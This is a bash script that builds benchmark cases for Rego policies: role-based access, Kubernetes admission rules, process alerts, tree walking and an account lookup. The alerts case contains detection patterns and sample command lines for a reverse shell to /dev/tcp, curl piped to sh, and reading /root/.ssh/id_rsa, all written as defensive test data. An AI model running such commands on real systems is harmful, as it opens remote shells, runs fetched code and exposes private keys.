# shellcheck shell=bash disable=SC2154,SC2016 # dir is of tests/bench/policy
# SPDX-License-Identifier: BSD-2-Clause
# Cases of tests/bench/policy that resemble what policies are used for.

# --- the cases ---------------------------------------------------------------
# begin NAME QUERY: its directory; the policy comes on stdin.
begin() {
	mkdir -p "$dir/$1"
	rm -f "$dir/$1"/*
	echo "$2" >"$dir/$1/query"
	cat >"$dir/$1/policy.rego"
}

make_rbac() {
	begin rbac data.rbac.allow <<-'REGO'
		package rbac

		default allow := false

		allow if {
			some role in user_roles
			some grant in data.roles[role].grants
			grant.action == input.action
			grant.type == input.type
		}

		user_roles contains role if {
			some binding in data.bindings
			binding.user == input.user
			some role in included(binding.role)
		}

		included(role) := {role} | {deeper |
			some first in data.roles[role].includes
			some deeper in {first} | {second | some second in data.roles[first].includes}
		}
	REGO
	awk 'BEGIN {
		printf "{\"roles\":{"
		for (r = 0; r < 100; r++) {
			printf "%s\"role%d\":{\"includes\":[", r ? "," : "", r
			for (i = 1; i <= 3 && r + i * 7 < 100; i++)
				printf "%s\"role%d\"", (i > 1 ? "," : ""), r + i * 7
			printf "],\"grants\":["
			for (g = 0; g < 8; g++)
				printf "%s{\"action\":\"%s\",\"type\":\"resource-type-%d\"}", g ? "," : "",
					g % 2 ? "write" : "read", (r * 8 + g) % 50
			printf "]}"
		}
		printf "},\"bindings\":["
		for (b = 0; b < 100; b++)
			printf "%s{\"user\":\"user-%d@example.com\",\"role\":\"role%d\"}", b ? "," : "", b % 40, b
		printf "]}\n"
	}' >"$dir/rbac/data.json"
	awk 'BEGIN {
		for (i = 0; i < 20; i++)
			printf "%s{\"user\":\"user-%d@example.com\",\"action\":\"%s\",\"type\":\"resource-type-%d\",\"object\":\"id%d\"}",
				i ? ",\n" : "[", i * 3 % 45, i % 3 ? "read" : "write", i * 11 % 60, i
		print "]"
	}' >"$dir/rbac/inputs.json"
}

make_admission() {
	begin admission data.admission.deny <<-'REGO'
		package admission

		containers contains c if some c in input.request.object.spec.containers

		containers contains c if some c in input.request.object.spec.initContainers

		deny contains msg if {
			some c in containers
			c.securityContext.privileged
			msg := sprintf("container %s is privileged", [c.name])
		}

		deny contains msg if {
			some c in containers
			not startswith(c.image, "registry.example.com/")
			msg := sprintf("image %s of %s comes from elsewhere", [c.image, c.name])
		}

		deny contains msg if {
			some c in containers
			endswith(c.image, ":latest")
			msg := sprintf("image %s has the tag latest", [c.image])
		}

		deny contains msg if {
			some c in containers
			not c.resources.limits.memory
			msg := sprintf("container %s has no limit of memory", [c.name])
		}

		deny contains msg if {
			some c in containers
			not c.resources.limits.cpu
			msg := sprintf("container %s has no limit of CPU", [c.name])
		}

		deny contains msg if {
			some c in containers
			some cap in c.securityContext.capabilities.add
			cap in {"SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE"}
			msg := sprintf("container %s adds %s", [c.name, cap])
		}

		deny contains msg if {
			some v in input.request.object.spec.volumes
			v.hostPath
			msg := sprintf("volume %s mounts %s of the host", [v.name, v.hostPath.path])
		}

		deny contains msg if {
			some field in ["hostNetwork", "hostPID", "hostIPC"]
			input.request.object.spec[field]
			msg := sprintf("%s is set", [field])
		}

		deny contains msg if {
			some label in {"app", "owner", "team"}
			not input.request.object.metadata.labels[label]
			msg := sprintf("label %s is missing", [label])
		}

		deny contains msg if {
			some c in containers
			c.securityContext.runAsUser == 0
			msg := sprintf("container %s runs as root", [c.name])
		}
	REGO
	awk 'BEGIN {
		for (i = 0; i < 8; i++) {
			printf "%s{\"apiVersion\":\"admission.k8s.io/v1\",\"kind\":\"AdmissionReview\",\"request\":{\"uid\":\"705ab4f5-6393-11e8-b7cc-%012d\",", i ? ",\n" : "[", i
			printf "\"kind\":{\"group\":\"\",\"version\":\"v1\",\"kind\":\"Pod\"},\"operation\":\"CREATE\",\"namespace\":\"default\",\"userInfo\":{\"username\":\"jane\",\"groups\":[\"system:authenticated\"]},"
			printf "\"object\":{\"metadata\":{\"name\":\"web-%d\",\"labels\":{\"app\":\"web\"}},\"spec\":{\"hostNetwork\":%s,\"containers\":[", i, i % 2 ? "true" : "false"
			for (c = 0; c < 4; c++)
				printf "%s{\"name\":\"c%d\",\"image\":\"%s/app%d:%s\",\"resources\":{\"limits\":{%s}},\"securityContext\":{\"privileged\":%s,\"runAsUser\":%d,\"capabilities\":{\"add\":[\"%s\"]}},\"env\":[{\"name\":\"A\",\"value\":\"1\"},{\"name\":\"B\",\"value\":\"2\"}]}",
					c ? "," : "", c, c % 2 ? "registry.example.com" : "docker.io", c, c % 3 ? "1.2" : "latest",
					c % 2 ? "\"memory\":\"1Gi\",\"cpu\":\"1\"" : "", (c + i) % 3 ? "false" : "true", c % 2 * 1000,
					c ? "CHOWN" : "SYS_ADMIN"
			printf "],\"volumes\":[{\"name\":\"docker\",\"hostPath\":{\"path\":\"/var/run/docker.sock\"}},{\"name\":\"tmp\",\"emptyDir\":{}}]}}}}"
		}
		print "]"
	}' >"$dir/admission/inputs.json"
}

make_alerts() {
	begin alerts data.alerts.alert <<-'REGO'
		package alerts

		line := input.process.cmdline

		alert contains "reverse shell" if regex.match(`bash\s+-i\s+>&\s*/dev/tcp/`, line)

		alert contains "pipe to shell" if regex.match(`(curl|wget)\s.*\|\s*(ba|z|da)?sh\b`, line)

		alert contains "encoded payload" if {
			regex.match(`base64\s+(-d|--decode)`, line)
			some word in split(line, " ")
			count(word) > 20
		}

		alert contains "history is cleared" if regex.match(`history\s+-c|unset\s+HISTFILE`, line)

		alert contains "keys are read" if regex.match(`/\.ssh/(id_[a-z0-9]+|authorized_keys)`, line)

		alert contains msg if {
			glob.match("/tmp/**", ["/"], input.process.exe)
			msg := sprintf("%s runs from /tmp as %d", [input.process.comm, input.process.uid])
		}

		alert contains "miner" if regex.match(`stratum\+(tcp|ssl)://|xmrig|minerd`, line)

		alert contains msg if {
			some tool in {"nc", "ncat", "socat"}
			tool == input.process.comm
			msg := sprintf("%s by %v", [tool, input.process.parent])
		}
	REGO
	awk 'BEGIN {
		split("ls -la /home|bash -i >& /dev/tcp/10.0.0.1/4444 0>&1|curl -fsSL http://example.com/install.sh | sh|echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d|cat /root/.ssh/id_rsa|/usr/sbin/nginx -g daemon off;|python3 -m http.server 8080|grep -r password /etc", line, "|")
		split("/usr/bin/ls /bin/bash /usr/bin/curl /usr/bin/base64 /tmp/.x/cat /usr/sbin/nginx /usr/bin/python3 /usr/bin/grep", exe, " ")
		for (i = 1; i <= 8; i++)
			printf "%s{\"type\":\"process.exec\",\"time\":\"2026-01-01T00:00:%02d.123456789Z\",\"process\":{\"pid\":%d,\"ppid\":%d,\"uid\":%d,\"comm\":\"%s\",\"exe\":\"%s\",\"cmdline\":\"%s\",\"parent\":{\"comm\":\"sh\",\"pid\":%d}},\"container\":{\"id\":\"0123456789ab\"}}",
				(i > 1 ? ",\n" : "["), i, 1000 + i, 900 + i, i % 2 * 1000, i == 3 ? "nc" : "tool" i, exe[i], line[i], 900 + i
		print "]"
	}' >"$dir/alerts/inputs.json"
}

make_walk() {
	begin walk data.walks.report <<-'REGO'
		package walks

		numbers := [value | walk(input.tree, [_, value]); is_number(value)]

		names contains name if {
			walk(input.tree, [path, _])
			name := path[count(path) - 1]
			is_string(name)
		}

		by_kind[kind] contains path if {
			walk(input.tree, [path, value])
			kind := type_name(value)
		}

		report := {
			"sum": sum(numbers),
			"sorted": sort(numbers),
			"names": names,
			"kinds": {kind: count(paths) | some kind, paths in by_kind},
		}
	REGO
	awk 'BEGIN {
		printf "[{\"tree\":{"
		for (i = 0; i < 7; i++) {
			printf "%s\"branch%d\":{\"weight\":%d,\"leaves\":[", i ? "," : "", i, i * 3
			for (k = 0; k < 8; k++)
				printf "%s%d", k ? "," : "", (i * 31 + k * 17) % 100
			printf "],\"name\":\"b%d\"}", i
		}
		print "}}]"
	}' >"$dir/walk/inputs.json"
}

make_data() {
	begin data data.accounts.allow <<-'REGO'
		package accounts

		default allow := false

		allow if {
			account := data.accounts_by_id[input.account]
			account.active
			input.groups[_] == account.groups[_]
			account.limit >= input.amount
			not data.blocked[input.account]
		}
	REGO
	awk 'BEGIN {
		printf "{\"accounts_by_id\":{"
		for (i = 0; i < 50000; i++)
			printf "%s\"acc-%06d\":{\"active\":%s,\"groups\":[\"g%d\",\"g%d\"],\"limit\":%d,\"name\":\"Customer %d\"}",
				i ? "," : "", i, i % 10 ? "true" : "false", i % 97, i % 89, i % 1000, i
		printf "},\"blocked\":{"
		for (i = 0; i < 1000; i++)
			printf "%s\"acc-%06d\":true", i ? "," : "", i * 37
		print "}}"
	}' >"$dir/data/data.json"
	awk 'BEGIN {
		for (i = 0; i < 64; i++)
			printf "%s{\"account\":\"acc-%06d\",\"groups\":[\"g%d\",\"g1\",\"g2\"],\"amount\":%d}", i ? ",\n" : "[",
				i * 7919 % 50100, i * 7919 % 50100 % 97, i * 13 % 900
		print "]"
	}' >"$dir/data/inputs.json"
}
